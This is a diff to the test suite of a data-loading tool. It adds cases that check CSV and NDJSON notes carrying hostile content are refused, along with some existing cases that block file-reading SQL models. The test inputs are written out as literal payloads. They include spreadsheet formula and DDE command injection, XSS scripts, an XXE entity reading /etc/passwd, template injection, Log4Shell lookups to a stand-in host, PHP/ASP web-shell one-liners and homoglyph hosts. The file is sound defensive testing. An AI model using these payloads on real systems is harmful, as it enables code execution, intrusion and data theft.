@@ -138,6 +138,41 @@ case("csv-line-2gb", "one line of 2 GB is refused without being held in memory",
 case("csv-gzip-bomb", "a small file that grows without end", fails("grows by more than", 3), input={"generator": "gzip_bomb"})
 case("csv-zstd-bomb", "a small file that grows without end", fails("grows by more than", 3), input={"generator": "zstd_bomb"})
 
+# What is a risk in itself: values that fit their column.
+
+
+def content(name, why, notes, refused, kept=("an ordinary note",)):
+    """Notes that are refused, and then some that are not."""
+    lines = [row(n, note='"' + note.replace('"', '""') + '"') for n, note in enumerate([*notes, *kept], 1)]
+    wanted = "n\n" + "".join(f"{n}\n" for n in range(len(notes) + 1, len(notes) + len(kept) + 1))
+    csv("content-" + name, why, "".join(lines), loads(len(kept), {f"content:{kind} of note": count for kind, count in refused.items()}, wanted, "select n from typed order by n"))
+
+
+content("formula", "what a spreadsheet runs when the table is exported", ["=1+1", '=HYPERLINK("http://a.example")', "@SUM(1+1)", "+SUM(A1)"], {"formula": 4},
+        ["-5", "+33 6 12 34 56 78", "- item (note)", "@handle", "-item(s)", "-", "==="])
+content("dde", "a cell that starts a program", ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)*cmd|' /C calc'!A0"], {"formula": 4}, ["- a | b | c"])
+content("formula-behind", "white space, quotes and invisible characters before the sign are taken away by spreadsheets", ["\t=1+1", " =1+1", "'=1+1", '"=1+1', "\u00a0=1+1", "\ufeff=1+1"], {"formula": 6})
+content("formula-full-width", "full-width signs are signs to some spreadsheets", ["\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(1+1)"], {"formula": 3}, ["\uff0d\uff15"])
+content("formula-other-file", "a value of a file elsewhere, for which the spreadsheet opens it", ["=[book.xls]Sheet1!A1", "+'\\\\host\\share\\[b.xls]S'!A1"], {"formula": 2})
+content("control", "control characters of both sets", ["bell\x07", "esc\x1b[2J", "nul\x00", "c1\x9b2J", "del\x7f"], {"control": 5}, ["tab\tand\r\nline ends"])
+content("bidi-override", "text that reads in another order than it stands", ["access\u202elevel", "\u202dabc\u202c"], {"bidi": 2}, ["\u05e9\u05dc\u05d5\u05dd\u200f!"])
+content("bidi-isolates", "parts without an end, or that turn where nothing does", ["\u2067if (admin)\u2069", "\u202aC:\\Users", "abc\u202c"], {"bidi": 3}, ["\u202b\u05e9\u05dc\u05d5\u05dd abc\u202c", "\u202a+33 6 12\u202c"])
+content("hidden", "characters of no width in a word and at its ends", ["ad\u200bmin", "admin\u200b", "ad\u200dmin", "ad\ufeffmin", "hi\U000e0068\U000e0069"], {"bidi": 5},
+        ["\U0001f469\u200d\U0001f467", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u0915\u094d\u200d\u0937"])
+content("homoglyph", "Cyrillic, Greek and full-width letters that pass for Latin ones in identifiers", ["p\u0430yp\u0430l.com", "ann@ex\u0430mple.org", "g\u03bf\u03bfgle.com", "\u0430dmin", "\uff41dmin"], {"homoglyph": 5},
+        ["\u043f\u0440\u0438\u0432\u0435\u0442", "USB-\u043a\u0430\u0431\u0435\u043b\u044c", "\u03bdmax", "\u03bcm"])
+content("homoglyph-host", "a host all in Cyrillic that reads as another", ["https://\u0430\u0440\u0440\u04cf\u0435.com"], {"homoglyph": 1}, ["https://\u043f\u043e\u0447\u0442\u0430.ru"])
+content("script", "a script, however its tag is written", ["<script>alert(1)</script>", "<SCRIPT src=//a.example>", "<script", "<svg/onload=alert(1)>", "<img src=x onerror = alert(1)>"], {"markup": 5}, ["<b>bold</b>", "a < b", "List<Object>"])
+content("script-address", "addresses that are run", ["javascript:alert(1)", "<a href='javascript:x'>", "java\tscript:alert(1)", "data:text/html,<b>x</b>"], {"markup": 4}, ["JavaScript: The Good Parts"])
+content("entity", "entities of XML that read files", ['<!ENTITY x SYSTEM "file:///etc/passwd">', "<!DOCTYPE a [<!ELEMENT a ANY>]>"], {"markup": 2}, ["<!DOCTYPE html>"])
+content("template", "a template that reaches into the program that fills it", ["{{ ''.__class__.__mro__ }}", "${T(java.lang.Runtime)}"], {"markup": 2}, ["{{ name }}", "${HOME}"])
+content("log4shell", "a look-up that a logging library runs", ["${jndi:ldap://a.example/x}", "${${lower:j}ndi:ldap://a.example/x}"], {"pattern": 2}, ["${user}"])
+content("web-shell", "a program of a web server", ["<?php @eval($_POST['x']); ?>", '<%eval request("x")%>'], {"pattern": 2}, ["<?php echo 1; ?>"])
+content("private-key", "a key that has no place in a table", ["-----BEGIN " + "PRIVATE KEY-----"], {"pattern": 1}, ["-----BEGIN CERTIFICATE-----"])
+content("encoded-program", "a program in Base64", ["TVqQAAMAAAAEAAAA//8AALgAAAA"], {"pattern": 1})
+csv("content-before-others", "a risk is told before any other rule that the row breaks", row("x", note="=1+1") + row(2, note="=" + "1" * 50) + row(3),
+    loads(1, {"content:formula of note": 2}, "n\n3\n", "select n from typed order by n"))
+
 # ---------------------------------------------------------------- NDJSON
 
 
@@ -165,6 +200,8 @@ nd("number-as-text", "\"2\" is a text, and no number unless the contract says so
 nd("required-missing", "a missing key is null", ['{"n":1}', '{"id":"a"}', '{"n":null}'], loads(1, {"primaryKey:null of n": 2}, "n\n1\n", "select n from typed order by n"))
 nd("byte-order-mark", "a UTF-8 mark is not part of the first line", b'\xef\xbb\xbf{"n":1}\n{"n":2}\n', loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
 nd("fraction-in-integer", "1.5 is not rounded to fit an integer", ['{"n":1}', '{"n":1.5}'], loads(1, {"type of n": 1}, "n\n1\n", "select n from typed order by n"))
+nd("content", "escapes of JSON hide nothing from inspection", ['{"n":1,"note":"\\u003d1+1"}', '{"n":2,"note":"nul\\u0000"}', '{"n":3,"note":"\\u003cscript>"}', '{"n":4,"note":"ad\\u200bmin"}', '{"n":5}'],
+   loads(1, {"content:formula of note": 1, "content:control of note": 1, "content:markup of note": 1, "content:bidi of note": 1}, "n\n5\n", "select n from typed order by n"))
 
 # ---------------------------------------------------------------- Parquet
 
@@ -309,7 +346,7 @@ proj("contract-not-approved", "a contract that nobody approved lets nothing in",
 proj("contract-changed-after-approval", "an approval is of one text; a rule that was loosened since needs another", {"after_approval:contracts/typed.odcs.yaml": contract(replace={"maxLength: 40": "maxLength: 400"})}, fails("it is not what was approved", 3))
 proj("contract-approval-cut", "an approval without its signature is none", {"after_approval:contracts/typed.odcs.approval": "polder contract approval v1\ntyped\n" + "0" * 64 + "\n\n"}, fails("no enrolled approver signed its approval", 3))
 proj("contract-approval-garbled", "a signature that does not verify is none", {"after_approval:contracts/typed.odcs.approval": "polder contract approval v1\n\u2014 root AAAA\n"}, fails("approval is damaged", 3))
-proj("polder-yaml-unknown-key", "there is no key that switches sealing off", {"append:polder.yaml": "encryption: off\n"}, fails("line 13: `encryption`", 2), command=CHECK, approve=())
+proj("polder-yaml-unknown-key", "there is no key that switches sealing off", {"append:polder.yaml": "encryption: off\n"}, fails("line 14: `encryption`", 2), command=CHECK, approve=())
 proj("model-copies-out", "a model cannot write files", {"models/leak.sql": "-- polder: materialized = table\ncopy (select * from typed) to '/tmp/leak.csv'\n"}, fails("models/leak.sql: copy begins no query", 2), command=("model", "run"))
 proj("model-reads-files", "a model cannot read files", {"models/leak.sql": "-- polder: materialized = table\nselect * from 'file:///etc/passwd'\n"}, fails("models/leak.sql: a file or an address in place of a table", 2), command=("model", "run"))
 proj("model-of-itself", "an order that does not end", {"models/a.sql": "-- polder: materialized = table\nselect * from b\n", "models/b.sql": "-- polder: materialized = table\nselect * from a\n"}, fails("models/a.sql: models read each other in a circle: a -> b -> a", 2), command=("model", "run"))
